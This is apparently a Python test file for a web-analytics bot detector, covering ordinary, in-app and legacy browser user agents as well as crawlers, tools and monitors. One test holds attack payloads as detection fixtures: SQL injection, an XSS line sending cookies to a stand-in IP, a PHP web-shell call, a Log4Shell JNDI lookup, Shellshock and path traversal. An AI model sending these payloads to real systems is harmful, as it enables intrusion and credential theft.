"""Bot detection (tracking.ingest.enrich.bots: detect_bot) on representative user agents.

The strings come from public test data (Matomo Device Detector's and isbot's fixtures,
crawler-user-agents' instances) or are the well-known user agents of common tools; those of the
rules that no list carries (attack payloads, joined user agents, synthetic monitors, Splash,
Google Web Light) are written here, after the products' documented formats. The full lists
are measured by ``bench/bots.py``; these pin the behaviour so that a regression fails without
the bench.
"""

from __future__ import annotations

import pytest

from tracking.ingest.enrich import bot_lists, bots, detect_bot, parse_agent, pattern_lists

# --------------------------------------------------------------------------
# People's browsers, the hard ones included: never a bot hit
# --------------------------------------------------------------------------

ORDINARY_BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/137.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/137.0.0.0 Safari/537.36 Edg/137.0.0.0",
    "Mozilla/5.0 (X11; Linux x86_64; rv:139.0) Gecko/20100101 Firefox/139.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/137.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/27.0 Chrome/125.0.0.0 Mobile Safari/537.36",
    # Ecosia appends "android@<version>", which is no e-mail address.
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Mobile Safari/537.36 (Ecosia android@143.0.0.0)",
]

# Phones whose model names contain a bot word: "Cubot", "XBot Senior", "HTC Butterfly".
PHONES_NAMED_LIKE_BOTS = [
    "Mozilla/5.0 (Linux; Android 10; CUBOT J9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.152 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 8.1.0; XBot_Senior Build/O11019) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/65.0.3325.109 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 4.2.2; HTC Butterfly Build/JDQ39) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/31.0.1650.59 Mobile Safari/537.36",
    # A firmware build that crawler-user-agents 1.67 lists as an agent of its own.
    "Mozilla/5.0 (Linux; Android 15; CPH2725 Build/AP3A.240617.008; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/138.0.7204.179 Mobile Safari/537.36",
]

TEXT_BROWSERS = [
    "Lynx/2.8.9rel.1 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.6.5",
    "Lynx/2.8.8pre.3 libwww-FM/2.14 SSL-MM/1.4.1 OpenSSL/1.0.1e",
    "Links (2.1pre23; Linux 3.5.0 i686; 237x63)",
    "ELinks/0.12~pre6-1ubuntu1 (textmode; Ubuntu; Linux 3.11.0-13-generic i686; 100x25-2)",
    "w3m/0.5.3+git20230121",
    "NCSA_Mosaic/2.7b5 (X11;Linux 2.6.7 i686) libwww/2.12 modified",
    "AmigaVoyager/3.2 (AmigaOS/MC680x0)",
]

IN_APP_BROWSERS = [
    # Facebook (Android, iOS without a Safari token, the newer "MetaIAB" token)
    "Mozilla/5.0 (Linux; Android 10; SM-A105M Build/QP1A.190711.020; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/95.0.4638.50 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/357.0.0.23.115;]",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/21G93 [FBAN/FBIOS;FBAV/479.1.0.33.109;FBBV/637241220;FBDV/iPhone15,2;FBMD/iPhone;FBSN/iOS;FBSV/17.6.1;FBSS/3;FBID/phone;FBLC/es_ES;FBOP/5;FBRV/639094949;IABMV/1]",
    "Mozilla/5.0 (Linux; Android 16; Pixel 10 Pro XL Build/CP1A.260305.018; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/146.0.7680.174 Mobile Safari/537.36 MetaIAB Facebook",
    # Instagram, on a firmware build crawler-user-agents names
    "Mozilla/5.0 (Linux; Android 15; CPH2557 Build/AP3A.240617.008; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/142.0.7444.142 Mobile Safari/537.36 Instagram 406.0.0.58.159 Android (35/15; 480dpi; 1080x2400; OPPO; CPH2557; OP573DL1; mt6833; en_MY; 822918295; IABMV/1) NV/1",
    "Mozilla/5.0 (Linux; Android 15; SM-A146P Build/AP3A.240905.015.A2; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/140.0.7339.207 Mobile Safari/537.36 [LinkedInApp]/2.200.63",
    "Mozilla/5.0 (Linux; Android 11; 6025H_EEA Build/RP1A.200720.011; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/91.0.4472.120 Mobile Safari/537.36 trill_2022003030 JsSdk/1.0 NetType/WIFI Channel/googleplay AppName/musical_ly app_version/20.7.5 ByteLocale/en ByteFullLocale/en Region/US",
    "Mozilla/5.0 (Linux; Android 9; SM-G965F Build/PPR1.180610.011; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/78.0.3904.62 XWEB/2889 MMWEBSDK/20210902 Mobile Safari/537.36 MMWEBID/4096 MicroMessenger/8.0.15.2001(0x28000F41) Process/toolsmp WeChat/arm64 Weixin GPVersion/1 NetType/WIFI Language/en ABI/arm64",
    "Mozilla/5.0 (Linux; Android 11; SC-42A Build/RP1A.200720.012; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/108.0.5359.128 Mobile Safari/537.36 Line/12.21.1/IAB",
    "Mozilla/5.0 (Linux; Android 7.1.2; G011A Build/N2G48H; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/66.0.3359.158 Safari/537.36 Viber/11.9.5.8",
    "Mozilla/5.0 (Linux; U; Android 5.0.2; zh-cn; Redmi Note 2 Build/LRX22G) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30 SogouMSE,SogouMobileBrowser/3.8.5",
]

OLD_PLATFORMS_AND_DEVICES = [
    "Mozilla/4.0 (compatible; MSIE 6.0; Windows 98; Win 9x 4.90; .NET CLR 1.1.4322)",
    "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; Trident/5.0; Banca Caboto s.p.a.)",
    "Opera/9.80 (X11; Linux x86_64; Sabayon) Presto/2.12.388 Version/12.16",
    "Opera/9.70 (Linux armv7l ; U; turbotabbee/TSV2.0/1.02Q; fr) Presto/2.2",
    "PANTECH-P7000/JDUS10052009; Mozilla/5.0 (Profile/MIDP-2.0 Configuration/CLDC-1.1; Opera Mini/att/4.2.15645; U; fr) Opera 9.50",
    "BlackBerry8520/5.0.0.681 Profile/MIDP-2.1 Configuration/CLDC-1.1 VendorID/134",
    "Mozilla/5.0 (Series40; Nokia306/03.63; Profile/MIDP-2.1 Configuration/CLDC-1.1) Gecko/20100401 S40OviBrowser/3.9.0.0.22",
    "Mozilla/5.0 (Mobile; DIXON_XK1_3G; rv:48.0) Gecko/48.0 Firefox/48.0 KAIOS/2.5.1.1",
    "Mozilla/5.0 (PlayStation 4 1.52) AppleWebKit/536.26 (KHTML, like Gecko)",
    "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; Trident/6.0; Xbox; Xbox One)",
    "Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.88 Safari/537.36 HbbTV/1.6.1 (+DRM; LGE/KTC/BOTECH; 58BSE9503; WEBOS22 04.42.26; W22_K8LP; DTV_C22P;)",
    "Mozilla/5.0 (Linux; Android 9; KFKAWI) AppleWebKit/537.36 (KHTML, like Gecko) Silk/98.1.148 like Chrome/98.0.4758.101 Safari/537.36",
]

# A native app may call the beacon itself: its HTTP stack names the platform.
NATIVE_APPS = [
    "ExampleApp/1 Dalvik/2.1.0 (Linux; U; Android 6.0.1; vivo 1610 Build/MMB29M)",
    "AppName/1 CFNetwork/758.1.2 Darwin/15.0.0",
]

# Quotes that are no payload: screen sizes in inches in device names, a stray quote a log left at
# the end, an apostrophe in a name; a bar in a model name; "Mozilla/5.0" inside a phone's comment.
QUOTES_AND_SEPARATORS = [
    'Mozilla/5.0 (Linux; Android 12; Vista Tab 10.1") AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0.5993.111 Safari/537.36',
    "Mozilla/5.0 (Linux; Android 11; KidsPad 7'') AppleWebKit/537.36 (KHTML, like Gecko) Chrome/112.0.5615.48 Safari/537.36",
    'Mozilla/5.0 (Linux; Android 13; SM-A546B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.144 Mobile Safari/537.36"',
    "Mozilla/5.0 (Linux; Android 10; Kid'sTab 8 Build/QP1A.190711.020) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.45 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 9; AB|CD Star 5) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/80.0.3987.149 Mobile Safari/537.36",
    "Nokia6300/2.0 (05.00) Profile/MIDP-2.0 Configuration/CLDC-1.1; Mozilla/5.0 (Series40) UNTRUSTED/1.0",
]


@pytest.mark.parametrize(
    "ua",
    ORDINARY_BROWSERS + PHONES_NAMED_LIKE_BOTS + TEXT_BROWSERS + IN_APP_BROWSERS + OLD_PLATFORMS_AND_DEVICES + NATIVE_APPS
    + QUOTES_AND_SEPARATORS,
)
def test_people_s_browsers_are_no_bots(ua: str) -> None:
    assert detect_bot(ua) is None


# --------------------------------------------------------------------------
# Programs: a bot hit, with the reason the list of bot hits shows
# --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("ua", "reason"),
    [
        ("", "empty-ua"),
        (" \t\x00", "empty-ua"),
        ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/137.0.0.0 Safari/537.36",
         "headless"),
        ("Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/538.1", "headless"),
        ("Mozilla/5.0 (Linux; Android 11; moto g power (2022)) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/137.0.0.0 "
         "Mobile Safari/537.36 Chrome-Lighthouse", "headless"),
        # crawler-user-agents tags Splash's neighbours "browser-automation"
        ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; compatible; Google-Agent)", "headless"),
        ("curl/8.5.0", "tool"),
        ("Wget/1.21.4", "tool"),
        ("python-requests/2.32.3", "tool"),
        ("Go-http-client/2.0", "tool"),
        ("okhttp/4.12.0", "tool"),
        ("Apache-HttpClient/4.5.14 (Java/17.0.10)", "tool"),
        ("GuzzleHttp/7", "tool"),  # Matomo's libraries
        ("Jersey/2.30.payara-p3 (HttpUrlConnection 11.0.25)", "tool"),  # crawler-user-agents' http-library tag
        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "crawler"),
        ("Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) "
         "Chrome/137.0.7151.119 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "crawler"),
        ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) "
         "Chrome/116.0.1938.76 Safari/537.36", "crawler"),
        ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)", "crawler"),
        ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "crawler"),
        ("Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", "crawler"),
        ("Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.1 (KHTML, like Gecko) Chrome/21.0.1180.89 Safari/537.1; 360Spider",
         "crawler"),
        ("WhatsApp/2.23.20.0 A", "crawler"),  # crawler-user-agents: WhatsApp's link previews
        ("Akregator/1.2.9; librss/remnants", "crawler"),  # Matomo's feed readers
        ("Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "monitor"),
        ("Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", "monitor"),
        ("Mozilla/5.0 (X11; Linux x86_64; Splunk Synthetics) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/127.0.6533.88 "
         "Safari/537.36", "monitor"),  # crawler-user-agents' monitoring tag
        ("Wanderlust/0.3 (+https://wanderlust.example/about)", "url-in-agent"),
        ("Wanderlust/0.3 (see www.wanderlust.example)", "url-in-agent"),
        ("Wanderlust/0.3 (ops@wanderlust.example)", "email-in-agent"),
        ("Discourse/2.6.0.beta3", "no-browser"),
        ("Mozilla/5.0 (compatible; Trance/1.0)", "no-browser"),
        ("MyLib/1.11 (vert.x/4.11.2; GraalVM/21; Java; custom-client)", "no-browser"),
    ],
)
def test_programs_are_bots_with_their_reason(ua: str, reason: str) -> None:
    assert detect_bot(ua) == reason


CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
PIXEL = (
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile "
    "Safari/537.36"
)


@pytest.mark.parametrize(
    "ua",
    [
        # a browser's user agent with an injection after it: the browser's name does not excuse it
        f"{CHROME}' AND SLEEP(5)-- -",
        f"{CHROME}\" UNION ALL SELECT NULL,NULL--",
        f"{PIXEL}'+(select 1 from dual)+'",
        "Mozilla/5.0 (X11; Linux x86_64) <img src=x onerror=alert(document.cookie)>",
        "<script>fetch('//198.51.100.7/'+document.cookie)</script>",
        "Mozilla/5.0 <?php system($_GET['c']); ?>",
        "${jndi:ldap://203.0.113.9:1389/Basic/Command}",
        f"{CHROME} ${{7*7}}",
        f"{CHROME} {{{{7*7}}}}",
        "() { :; }; /bin/bash -c 'sleep 9'",
        "Mozilla/5.0 (X11; Linux x86_64) ../../../../etc/passwd",
        f"{PIXEL} x3k9q2vw7d.oastify.com",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) q8w1c0d.burpcollaborator.net",
    ],
)
def test_attack_payloads_are_probes(ua: str) -> None:
    assert detect_bot(ua) == "probe"


@pytest.mark.parametrize(
    "ua",
    [
        # an image resizer that copies in the User-Agent of the request it serves
        f"ImageResizer/2.3, {CHROME}",
        f"Relay, {PIXEL}",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 "
        f"Safari/605.1.15, {CHROME}",
        f"android|{PIXEL}",
    ],
)
def test_joined_user_agents_are_no_browser_s(ua: str) -> None:
    assert detect_bot(ua) == "joined-agents"


@pytest.mark.parametrize(
    "ua",
    [
        f"{CHROME} ExampleSynthetics/3.1",
        "Mozilla/5.0 (X11; Linux x86_64; Acme Synthetic Monitor) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
        "Safari/537.36",
        # the lists know Splunk's agent with its capitals only
        f"{CHROME} (splunk synthetics)",
    ],
)
def test_synthetic_monitoring_is_a_monitor(ua: str) -> None:
    assert detect_bot(ua) == "monitor"


def test_splash_is_headless_though_matomo_names_it_a_browser() -> None:
    # Qt WebKit's default user agent, with Splash's application name in it
    ua = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) splash Version/8.0 Safari/538.1"
    assert detect_bot(ua) == "headless"


def test_google_web_light_is_google_s_fetcher() -> None:
    ua = (
        "Mozilla/5.0 (Linux; Android 8.1.0; en-in; Redmi 5A Build/OPM1.171019.026) AppleWebKit/537.36 (KHTML, like Gecko; "
        "googleweblight) Chrome/70.0.3538.80 Mobile Safari/537.36"
    )
    assert detect_bot(ua) == "crawler"


def test_every_reason_fits_the_visits_column() -> None:
    assert all(0 < len(reason) <= 32 for reason in bots.REASONS)  # hits.bot is String(32)


def test_only_the_first_512_characters_are_read() -> None:
    assert detect_bot(ORDINARY_BROWSERS[0] + " " * 600 + "Googlebot/2.1") is None
    assert detect_bot("Googlebot/2.1 " + ORDINARY_BROWSERS[0] + " " * 600) == "crawler"


def test_the_lists_are_read_in_a_child_process_or_else_here(monkeypatch: pytest.MonkeyPatch) -> None:
    from_child = bot_lists._patterns()
    monkeypatch.setattr(bot_lists.sys, "executable", "")
    assert bot_lists._patterns() == from_child == bot_lists.read_patterns()
    assert {name: len(patterns) > 0 for name, patterns in from_child.items()} == dict.fromkeys(from_child, True)


def test_a_look_behind_of_alternatives_runs_as_upstream_meant() -> None:
    """Matomo's catch-all looks for "bot" at a word's start, but not after "cu" (Cubot phones):
    its look-behind of alternatives is rewritten for ``re``, and its relaxed form gates it."""
    listed = pattern_lists._PatternList(
        [(r"[a-z0-9_-]*(?:(?<!cu|power[ _])bot)(?:[^a-z]|$)", "crawler", bot_lists._MATOMO_PREFIX)], ignore_case=True
    )
    assert listed.first("Examplebot/1.0") == "crawler"
    assert listed.first("Mozilla/5.0 (Linux; Android 10; CUBOT J9)") is None
    assert listed.first("Power Bot 3") is None
    assert listed.first("Mozilla/5.0 (Windows NT 10.0)") is None


def test_a_browser_ua_parser_takes_for_a_spider_is_counted_as_its_device() -> None:
    """ua-parser's own patterns see "bot" in "Banca Caboto": the visit is counted, as a desktop."""
    ua = OLD_PLATFORMS_AND_DEVICES[1]
    assert "Banca Caboto" in ua
    assert (detect_bot(ua), parse_agent(ua).device) == (None, "desktop")
    assert parse_agent("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)").device == "bot"


def test_a_list_entry_no_engine_runs_is_left_out_and_said(caplog: pytest.LogCaptureFixture) -> None:
    """An upstream list may gain a regex that the Rust engine refuses (an atomic group: :mod:`re`
    runs it) or that neither runs: the others still work, and the log says which."""
    listed = pattern_lists._PatternList(
        [("(?>Alpha)bot", "crawler", "{}"), (r"(?<!a+)Beta", "monitor", "{}"), ("Gamma", "tool", "{}")], ignore_case=False
    )
    assert [listed.first(text) for text in ("Alphabot/1", "Beta/2", "Gamma/3", "Delta/4")] == ["crawler", None, "tool", None]
    assert "(?<!a+)Beta" in caplog.text and "(?>Alpha)bot" not in caplog.text
